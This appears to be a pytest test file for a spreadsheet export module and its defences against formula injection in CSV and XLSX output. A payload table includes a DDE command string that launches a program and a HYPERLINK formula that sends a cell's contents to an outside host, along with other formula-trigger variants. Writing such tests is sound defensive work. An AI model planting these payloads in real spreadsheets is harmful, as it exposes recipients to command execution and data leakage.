"""T06: what leaves in a spreadsheet stays text, whatever people are called."""

import csv
import datetime as dt
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from distribution.documents import spreadsheet
from distribution.documents.spreadsheet import Cell

PAYLOADS = {
    "T06-equals": "=1+1",
    "T06-command": "=cmd|' /C calc'!A0",
    "T06-link": '=HYPERLINK("http://voorbeeld.be/?"&A1;"klik")',
    "T06-plus": "+32 9 123 45 67",
    "T06-minus": "-1+1|cmd",
    "T06-at": "@SUM(1;1)",
    "T06-tab": "\t=1+1",
    "T06-carriage-return": "\r=1+1",
    "T06-nul": "\0=1+1",
    "T06-space-first": "  =1+1",
    "T06-full-width-equals": "＝1+1",
    "T06-full-width-plus": "＋1",
    "T06-full-width-minus": "－1",
    "T06-full-width-at": "＠SUM(1)",
}
TRIGGERS = "=+-@\t\r\0＝＋－＠"
INNOCENT = ["", "Van den Broeck", "'s-Gravenwezel", "D'Hondt", "Çelik", "9000", 'zegt "ja"; nee', "a,b", "twee\nregels"]

FILL_THE_DISK = """
import resource, sys
from pathlib import Path
from distribution.documents import spreadsheet
path, rows = Path(sys.argv[1]), ([number, "Peeters"] for number in range(60_000))
resource.setrlimit(resource.RLIMIT_FSIZE, (100_000, 100_000))
try:
    if path.suffix == ".csv":
        spreadsheet.write_csv(path, ["nummer", "naam"], rows)
    else:
        spreadsheet.write_xlsx(path, ["nummer", "naam"], rows, title="Proef")
except OSError as error:
    sys.exit(f"vol: {error.errno}")
"""


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, delimiter=";"))


def read_back(cell: str) -> str:
    """What every reader of ours does: one apostrophe before a formula is not part of the value."""
    return cell[1:] if cell[:1] == "'" and spreadsheet.FORMULA.match(cell[1:]) else cell


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_write_csv_puts_an_apostrophe_before_a_formula(tmp_path: Path, payload: str) -> None:
    path = tmp_path / "kaarten.csv"

    spreadsheet.write_csv(path, ["naam", "voornaam"], [[payload, "An"], ["Peeters", payload]])

    assert read_csv(path) == [["naam", "voornaam"], [f"'{payload}", "An"], ["Peeters", f"'{payload}"]]


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_write_xlsx_writes_a_formula_as_text(tmp_path: Path, payload: str) -> None:
    path = tmp_path / "kaarten.xlsx"

    spreadsheet.write_xlsx(path, ["naam", "voornaam"], [[payload, "An"], ["Peeters", payload]], title="Kaarten")

    sheet = openpyxl.load_workbook(path).worksheets[0]
    types = {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert types == {"s"}
    # A file for Excel spells NUL and a return as _x0000_ and _x000D_.
    spelled = payload.replace("\0", "_x0000_").replace("\r", "_x000D_")
    assert sheet["A2"].value in {payload, spelled}
    assert sheet["B3"].value == sheet["A2"].value


@pytest.mark.parametrize("text", INNOCENT)
def test_inert_leaves_other_text_alone(text: str) -> None:
    assert spreadsheet.inert(text) == text


@given(st.text())
@example(" \0")
def test_inert_never_starts_as_a_formula_and_loses_nothing(text: str) -> None:
    written = spreadsheet.inert(text)

    assert written[:1] not in set(TRIGGERS)
    assert written.lstrip()[:1] not in set(TRIGGERS)
    assert read_back(written) == text


@given(st.lists(st.lists(st.text(alphabet=st.characters(codec="utf-8")), min_size=2, max_size=2)))
def test_write_csv_gives_back_every_value(tmp_path_factory: pytest.TempPathFactory, rows: list[list[str]]) -> None:
    path = tmp_path_factory.mktemp("heen-en-terug") / "kaarten.csv"

    written = spreadsheet.write_csv(path, ["een", "twee"], rows)

    assert written == len(rows)
    assert [[read_back(cell) for cell in row] for row in read_csv(path)[1:]] == rows


def test_write_csv_is_what_dutch_excel_opens_by_itself(tmp_path: Path) -> None:
    path = tmp_path / "kaarten.csv"
    rows: list[list[Cell]] = [["Çelik; An", 12, dt.date(2027, 1, 15), None], ['zegt "ja"', 3.5, None, "x"]]

    spreadsheet.write_csv(path, ["naam", "aantal", "dag", "leeg"], rows)

    assert path.read_bytes().decode("utf-8") == (
        '\ufeffnaam;aantal;dag;leeg\r\n"Çelik; An";12;2027-01-15;\r\n"zegt ""ja""";3.5;;x\r\n'
    )


def test_write_xlsx_keeps_numbers_numbers_and_text_text(tmp_path: Path) -> None:
    path = tmp_path / "kaarten.xlsx"
    header = ["nummer", "aantal", "percent", "dag", "leeg"]
    rows: list[list[Cell]] = [["01234567890", 12, 58.25, dt.date(2027, 1, 15), None]]

    written = spreadsheet.write_xlsx(path, header, rows, title="Lijst: 2027/1")

    book = openpyxl.load_workbook(path)
    sheet = book.worksheets[0]
    assert written == 1
    assert sheet.title == "Lijst  2027 1"
    assert sheet.freeze_panes == "A2"
    assert [cell.value for cell in sheet[1]] == header
    assert [cell.value for cell in sheet[2]] == ["01234567890", 12, 58.25, dt.datetime(2027, 1, 15), None]  # noqa: DTZ001
    assert (book.properties.creator, book.properties.lastModifiedBy) == (None, None)


def test_write_xlsx_gives_the_same_bytes_for_the_same_rows(tmp_path: Path) -> None:
    first, second = tmp_path / "een.xlsx", tmp_path / "twee.xlsx"

    for path in (first, second):
        spreadsheet.write_xlsx(path, ["naam"], [["Peeters"]], title="Lijst")

    assert first.read_bytes() == second.read_bytes()
    with zipfile.ZipFile(first) as archive:
        assert {entry.date_time[0] for entry in archive.infolist()} == {1980}


@pytest.mark.parametrize("name", ["leeg.csv", "leeg.xlsx"])
def test_a_table_without_rows_keeps_its_header(tmp_path: Path, name: str) -> None:
    path = tmp_path / name

    if path.suffix == ".csv":
        written = spreadsheet.write_csv(path, ["naam"], [])
        found = read_csv(path)
    else:
        written = spreadsheet.write_xlsx(path, ["naam"], [], title="Leeg")
        found = [[str(cell.value) for cell in row] for row in openpyxl.load_workbook(path).worksheets[0].iter_rows()]

    assert (written, found) == (0, [["naam"]])


def test_write_xlsx_refuses_a_text_that_would_be_left_out(tmp_path: Path) -> None:
    path = tmp_path / "kaarten.xlsx"

    with pytest.raises(spreadsheet.DoesNotFit):
        spreadsheet.write_xlsx(path, ["naam"], [["x" * 32_768]], title="Lijst")

    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("name", ["F6-kaarten.csv", "F6-kaarten.xlsx"])
def test_a_full_disk_leaves_no_half_file(tmp_path: Path, name: str) -> None:
    result = subprocess.run(
        [sys.executable, "-c", FILL_THE_DISK, str(tmp_path / name)], capture_output=True, text=True, check=False
    )

    assert result.stderr.splitlines()[0] == "vol: 27"
    assert list(tmp_path.iterdir()) == []


def test_a_full_disk_leaves_the_older_file_alone(tmp_path: Path) -> None:
    path = tmp_path / "kaarten.csv"
    path.write_text("van gisteren")

    subprocess.run([sys.executable, "-c", FILL_THE_DISK, str(path)], capture_output=True, check=False)

    assert path.read_text() == "van gisteren"
    assert list(tmp_path.iterdir()) == [path]
